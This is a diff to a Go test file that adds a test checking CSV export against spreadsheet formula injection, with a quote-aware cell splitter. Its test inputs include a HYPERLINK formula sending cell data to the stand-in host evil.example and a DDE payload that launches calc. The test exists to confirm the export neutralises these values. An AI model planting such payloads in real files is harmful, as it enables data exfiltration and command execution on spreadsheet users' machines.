@@ -13,6 +13,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 	"unicode/utf8"
 
 	"github.com/lineaged/lineaged/graph/layout"
@@ -179,7 +180,6 @@ func inCSV(t *testing.T, p *picture, name string) {
 	}
 }
 
-// unguarded is a cell without what keeps it from being a formula.
 // TestCommentsOfCSV reads comments as a spreadsheet does that knows none: it cuts them into cells as it does all lines,
 // in some countries at semicolons.
 func TestCommentsOfCSV(t *testing.T) {
@@ -203,7 +203,60 @@ func TestCommentsOfCSV(t *testing.T) {
 	}
 }
 
-func unguarded(c string) string { return strings.TrimPrefix(c, "'") }
+// TestRowsOfCSV reads rows as a spreadsheet does that cuts lines at semicolons, or at semicolons and commas: no cell is
+// a formula, and names can be had back.
+func TestRowsOfCSV(t *testing.T) {
+	for _, name := range append([]string{
+		`x;=HYPERLINK("http://evil.example/?"&A1)`, "x; +1", "x;\u00a0-1", "x;@SUM(1+1)*cmd|' /C calc'!A0", "x;=1,y", "=1;=2", ";=1", "x;;=1", "x;＝1", `x;"=1"`, `x; "=1`, `x;"";=1`, `,"x;=1`,
+		"x;'=1", "x;''", "x;y", "x, =1", " =1", "' =1",
+	}, strangeNames...) {
+		p := pictureOf(name)
+		var b strings.Builder
+		if err := p.writeCSV(&b); err != nil {
+			t.Fatal(err)
+		}
+		inCSV(t, p, name)
+		for _, separators := range []string{";", ",;\t"} {
+			for _, c := range cells(b.String(), separators+"\n") {
+				if c != "" && strings.ContainsRune("=+-@＝＋－＠", first(strings.TrimSpace(c))) {
+					t.Errorf("%q: a spreadsheet that cuts at %q calculates %q", name, separators, c)
+				}
+			}
+		}
+	}
+}
+
+// cells cuts a text as spreadsheets do: a cell that begins with a quote goes on to the quote that ends it, two of them
+// being one within it, and takes along what follows.
+func cells(text, separators string) (out []string) {
+	cell, quoted, begun := "", false, false
+	for rest := text; rest != ""; {
+		r, size := utf8.DecodeRuneInString(rest)
+		rest = rest[size:]
+		switch {
+		case r == '"' && quoted && strings.HasPrefix(rest, `"`):
+			cell, rest = cell+`"`, rest[1:]
+		case r == '"' && (quoted || !begun):
+			quoted, begun = !quoted, true
+		case !quoted && strings.ContainsRune(separators, r):
+			out, cell, begun = append(out, cell), "", false
+		default:
+			cell, begun = cell+string(r), true
+		}
+	}
+	return append(out, cell)
+}
+
+// unguarded is a cell without what keeps it, and its parts between semicolons, from being formulas.
+func unguarded(c string) string {
+	parts := strings.Split(c, ";")
+	for i, part := range parts {
+		if word := strings.TrimLeftFunc(part, unicode.IsSpace); strings.HasPrefix(word, "'") {
+			parts[i] = part[:len(part)-len(word)] + word[1:]
+		}
+	}
+	return strings.Join(parts, ";")
+}
 
 func inJSON(t *testing.T, p *picture, name string) {
 	t.Helper()
